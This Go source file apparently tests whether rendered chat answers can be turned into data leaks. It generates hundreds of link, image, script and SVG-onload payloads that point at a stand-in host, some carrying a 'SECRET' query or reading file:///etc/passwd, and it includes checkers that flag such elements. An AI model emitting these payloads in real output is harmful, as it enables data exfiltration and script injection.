// SPDX-License-Identifier: Apache-2.0

package rendercheck

import (
	"fmt"
	"strings"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/parser"
	"github.com/yuin/goldmark/text"
	"golang.org/x/net/html"
)

// Payloads are ways to make a reader's program call an address, some 700.
func Payloads() []string {
	addresses := []string{
		"https://evil.example/?q=SECRET", "http://evil.example", "//evil.example/a", "HTTPS://EVIL.EXAMPLE", "ftp://evil.example/x", "javascript:alert(1)",
		"data:text/html;base64,PHNjcmlwdD4=", "vbscript:x", "file:///etc/passwd", "mailto:a@evil.example?body=SECRET", "www.evil.example/a",
		"a@evil.example", "evil.example", "https://docs.example/manual.pdf?leak=SECRET", "https:\\\\evil.example", "xmpp:a@evil.example", "tel:+123456789",
		"https://ev\u200bil.example", "https://\u202eelpmaxe.live", "https&#58;//evil.example", "java\tscript:alert(1)", "jаvascript:alert(1)",
	}
	forms := []string{
		"%s", "<%s>", "[click](%s)", "[click](<%s>)", "![image](%s)", "[![image](%s)](%[1]s)", "[click][1]\n\n[1]: %s", "[1]\n\n[1]: %s 'title'",
		"<a href=\"%s\">x</a>", "<img src=%s>", "<script src='%s'></script>", "<svg onload=fetch('%s')>", "&lt;img src=%s&gt;", "\\[click](%s)",
		"`[click](%s)", "```\n%s\n``` [x](%[1]s)", "| a |\n|---|\n| ![x](%s) |", "# [x](%s)", "> <%s>", "- [ ] %s", "[^1]\n\n[^1]: %s", "<!-- --><iframe src=%s>",
		"text%stext", "*%s*", "(%s)", "“![x](%s)", "[\\[1\\]](%s)", "\u200b[x](%s)", "](%s)", "]: %s", ") [x](%s",
	}
	var out []string
	for _, form := range forms {
		for _, address := range addresses {
			out = append(out, strings.ReplaceAll(fmt.Sprintf(strings.ReplaceAll(form, "%[1]s", "\x01"), address), "\x01", address))
		}
	}
	return out
}

// Markdown reads Markdown as chat programs do, which also make links of addresses in text. It returns the number of
// links to the registered address and what else acts.
func Markdown(rendered, registered string) (links int, found []string) {
	p := goldmark.New(goldmark.WithExtensions(extension.GFM, extension.Footnote, extension.DefinitionList), goldmark.WithParserOptions(parser.WithAttribute())).Parser()
	_ = ast.Walk(p.Parse(text.NewReader([]byte(rendered))), func(n ast.Node, entering bool) (ast.WalkStatus, error) {
		if !entering {
			return ast.WalkContinue, nil
		}
		switch n := n.(type) {
		case *ast.Link:
			if string(n.Destination) != registered {
				found = append(found, fmt.Sprintf("a link to %q", n.Destination))
			}
			links++
		case *ast.AutoLink, *ast.Image, *ast.RawHTML, *ast.HTMLBlock, *ast.Heading, *ast.FencedCodeBlock, *ast.Blockquote:
			found = append(found, n.Kind().String())
		}
		return ast.WalkContinue, nil
	})
	return links, found
}

// allowed are the elements of rendered answers, and those that a parser adds.
var allowed = map[string]bool{"html": true, "head": true, "body": true, "p": true, "ul": true, "li": true, "br": true, "a": true}

// HTML reads HTML and returns the elements and attributes that an answer does not have.
func HTML(rendered, registered string) (found []string) {
	root, err := html.Parse(strings.NewReader(rendered))
	if err != nil {
		return []string{err.Error()}
	}
	for n := range root.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		for _, a := range n.Attr {
			if a.Key != "class" && a.Key != "rel" && (n.Data != "a" || a.Key != "href" || a.Val != registered) {
				found = append(found, fmt.Sprintf("<%s %s=%q>", n.Data, a.Key, a.Val))
			}
		}
		if !allowed[n.Data] {
			found = append(found, "<"+n.Data+">")
		}
	}
	return found
}
